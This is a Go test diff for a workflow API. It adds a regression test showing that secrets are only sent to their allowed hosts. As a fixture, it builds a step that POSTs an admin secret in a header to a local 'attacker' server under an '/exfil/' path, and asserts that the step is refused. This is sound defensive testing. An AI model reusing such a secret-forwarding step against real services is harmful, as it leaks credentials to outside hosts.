@@ -3,6 +3,7 @@ package api
 import (
 	"context"
 	"net/http"
+	"strings"
 	"testing"
 
 	"github.com/google/uuid"
@@ -29,7 +30,7 @@ func TestLiveDryRunIsAdminOnly(t *testing.T) {
 	human, _, _, _ := h.keys(t)
 	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
 	const secret = "live-dry-run-secret-value"
-	require.Equal(t, http.StatusOK, h.ts.do(t, http.MethodPut, "/v1/workflow-secrets/LIVE_TOKEN", admin, map[string]any{"value": secret}).Status)
+	require.Equal(t, http.StatusOK, h.ts.do(t, http.MethodPut, "/v1/workflow-secrets/LIVE_TOKEN", admin, map[string]any{"allowed_hosts": []string{"127.0.0.1"}, "value": secret}).Status)
 	path := "/live-test/" + uuid.NewString()
 	wf := h.createWorkflow(t, human, h.workflowBody(path, func(b map[string]any) {
 		b["state"], b["approval_mode"], b["required_approvals"] = "draft", "always", 2
@@ -130,4 +131,57 @@ func TestAgentCannotDecideAndDecisionsRecordWho(t *testing.T) {
 	require.Equal(t, "test-"+t.Name(), ev[0].References["key_name"])
 	h.waitRun(t, ex.RunUUID, store.RunSucceeded)
 	require.Equal(t, 1, h.steps.Hits(path))
+}
+
+// Issue 12 item 2: a non-admin author with workflows:write named an admin secret in a step to their
+// own server and received it. Now every secret has allowed_hosts: a written-out host outside them is
+// refused when the workflow is saved (422 SECRET_HOST_NOT_ALLOWED); a host that comes from a template
+// is checked when the step runs, before anything is sent; the secret's own host still works.
+func TestSecretsGoOnlyToTheirAllowedHosts(t *testing.T) {
+	h := newRunHarness(t, "-runs")
+	human, _, _, _ := h.keys(t) // workflows:read/write/execute, approvals:write; not admin
+	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
+	attacker := newStepServer(t) // another loopback server: another port, so another host:port
+	const secret = "allowed-hosts-secret-value"
+	name := "HOST_TOKEN_" + strings.ToUpper(uuid.NewString()[:8])
+	legit := strings.TrimPrefix(h.steps.URL, "http://")
+	r := h.ts.do(t, http.MethodPut, "/v1/workflow-secrets/"+name, admin, map[string]any{"value": secret, "allowed_hosts": []string{legit}})
+	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
+	path := "/exfil/" + uuid.NewString()
+	step := func(url string) []any {
+		return []any{map[string]any{"name": "send", "method": "POST", "url": url, "headers": map[string]any{"X-Token": "{{secrets." + name + "}}"}}}
+	}
+	never := func(url string) func(map[string]any) {
+		return func(b map[string]any) {
+			b["approval_mode"], b["indicator_types"], b["steps"] = "never", []string{"ip", "url"}, step(url)
+		}
+	}
+
+	// A written-out foreign host: refused at save, on create and on update.
+	m := requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", human, h.workflowBody(path, never(attacker.URL+path))),
+		http.StatusUnprocessableEntity, "SECRET_HOST_NOT_ALLOWED")
+	require.Equal(t, name, m["error"].(map[string]any)["details"].(map[string]any)["secret"])
+	wf := h.createWorkflow(t, human, h.workflowBody(path, never(h.steps.URL+path)))
+	requireError(t, h.ts.do(t, http.MethodPatch, "/v1/workflows/"+wf, human, map[string]any{"steps": step(attacker.URL + path)}),
+		http.StatusUnprocessableEntity, "SECRET_HOST_NOT_ALLOWED")
+
+	// A host from a template passes the save and is refused when the step runs: a run and a live dry run.
+	tpl := h.createWorkflow(t, human, h.workflowBody(path+"/tpl", never("{{indicator.value}}")))
+	ex := h.execute(t, human, tpl, map[string]any{"indicator_type": "url", "indicator_value": attacker.URL + path})
+	run := h.waitRun(t, ex.RunUUID, store.RunFailed)
+	require.Contains(t, *run.Error, "SECRET_HOST_NOT_ALLOWED")
+	r = h.ts.do(t, http.MethodPost, "/v1/workflows/"+tpl+"/test", admin, map[string]any{"indicator_type": "url",
+		"indicator_value": attacker.URL + path, "live_http": true})
+	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
+	require.Contains(t, string(r.Body), "SECRET_HOST_NOT_ALLOWED")
+	require.Zero(t, attacker.Hits(path), "the attacker's server never saw a request, so never the secret")
+	require.NotContains(t, string(r.Body), secret)
+
+	// The legitimate path: the secret's own host, written out or from the template.
+	ex = h.execute(t, human, wf, map[string]any{"indicator_type": "ip", "indicator_value": "192.0.2.10"})
+	h.waitRun(t, ex.RunUUID, store.RunSucceeded)
+	require.Equal(t, secret, h.steps.Header(path).Get("X-Token"))
+	ex = h.execute(t, human, tpl, map[string]any{"indicator_type": "url", "indicator_value": h.steps.URL + path + "/ok"})
+	h.waitRun(t, ex.RunUUID, store.RunSucceeded)
+	require.Equal(t, secret, h.steps.Header(path+"/ok").Get("X-Token"))
 }
